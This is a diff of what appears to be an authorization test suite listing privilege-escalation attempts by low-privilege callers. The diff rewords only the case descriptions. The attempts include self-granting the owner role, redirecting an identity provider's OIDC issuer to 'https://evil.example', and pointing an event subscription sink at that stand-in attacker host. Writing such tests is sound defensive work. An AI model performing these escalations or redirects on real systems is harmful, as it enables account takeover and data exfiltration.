@@ -32,11 +32,11 @@ export const byClerk: EscalationAttack[] = [
       put(v1("rolebindings", w.fixtures.roleBinding), { identity: w.clerk.uid, role: w.ownerRole }),
   ],
   [
-    "v1: a role with what one lacks, bound to oneself",
+    "v1: a role with capabilities that the caller lacks, bound to the caller",
     (w) => put(v1("roles", w.clerkRole), { name: "mine", capabilities: ["repo.delete"] }),
   ],
   [
-    "a role that one is bound to, with more",
+    "the caller's own role with more capabilities",
     (w) => patch(v2("roles", w.clerkRole), { capabilities: ["CAP_REPO_DELETE"] }),
   ],
   [
@@ -56,19 +56,19 @@ export const byClerk: EscalationAttack[] = [
     (w) => post(v2("identityProviders", w.root), w.ownersProvider),
   ],
   [
-    "a provider at all, by whom people come in",
+    "a provider through which people log in",
     (w) => post(v2("identityProviders", w.root), w.provider),
   ],
   [
-    "the owner's role as default of a provider there is",
+    "the owner's role as the default role of an existing provider",
     (w) => patch(v2("identityProviders", w.idp), { defaultRole: w.ownerRole }),
   ],
   [
-    "a provider turned to one's own issuer",
+    "a provider changed to the caller's issuer",
     (w) => patch(v2("identityProviders", w.idp), { oidc: { issuer: "https://evil.example" } }),
   ],
   [
-    "a provider turned to one's own client",
+    "a provider changed to the caller's client",
     (w) => patch(v2("identityProviders", w.idp), { oidc: { clientId: "evil" } }),
   ],
   [
@@ -80,7 +80,7 @@ export const byClerk: EscalationAttack[] = [
     (w) => put(v1("identityProviders", w.idp), { name: "p", defaultRole: w.ownerRole, oidc: evil }),
   ],
   [
-    "v1: a provider of one's own",
+    "v1: a provider of the caller",
     (w) => post(v1("identityProviders", w.root), { name: "p", defaultRole: w.viewer, oidc: evil }),
   ],
   [
@@ -106,7 +106,7 @@ export const byClerk: EscalationAttack[] = [
       }),
   ],
   [
-    "a mapping to the owner's role, turned to one's own group",
+    "a mapping to the owner's role, changed to the caller's external group",
     (w) => patch(v2("externalGroupRoleMappings", w.mappedHigh), { externalGroupId: "mine" }),
   ],
   [
@@ -145,20 +145,20 @@ export const byClerk: EscalationAttack[] = [
     (w) => put(v1("rolebindings", w.mightyBinding), { identity: w.clerk.uid, role: w.ownerRole }),
   ],
   [
-    "the matchers of an identity that holds more, to one's own keys",
+    "the matchers of an identity with more capabilities, changed to the caller's keys",
     (w) => patch(v2("identities", w.mighty), { staticKeys: w.device }),
   ],
   [
-    "v1: the matchers of an identity that holds more",
+    "v1: the matchers of an identity with more capabilities",
     (w) =>
       put(v1("identities", w.mighty), {
         name: "m",
         claimMatch: { issuer: "https://evil.example", subject: "me" },
       }),
   ],
-  ["the group as one that is verified", (w) => patch(v2("groups", w.root), { verified: true })],
+  ["the group as a verified one", (w) => patch(v2("groups", w.root), { verified: true })],
   [
-    "v1: the group as one that is verified",
+    "v1: the group as a verified one",
     (w) => put(v1("groups", w.root), { name: "g", verified: true }),
   ],
   [
@@ -232,8 +232,8 @@ export const byChief: EscalationAttack[] = [
     "v1: a subscription to events above",
     (w) => post(subscriptions("v1", w.root), { sink: "https://evil.example" }),
   ],
-  ["a group beside its own", (w) => post(v2("groups", w.root), { name: "mine" })],
-  ["v1: a group beside its own", (w) => post(v1("groups", w.root), { name: "mine" })],
+  ["a group next to its own", (w) => post(v2("groups", w.root), { name: "mine" })],
+  ["v1: a group next to its own", (w) => post(v1("groups", w.root), { name: "mine" })],
   [
     "a sibling of its own group, by the name of the parent",
     (w) => post(v2("groups", w.organization.name), { name: "mine" }),
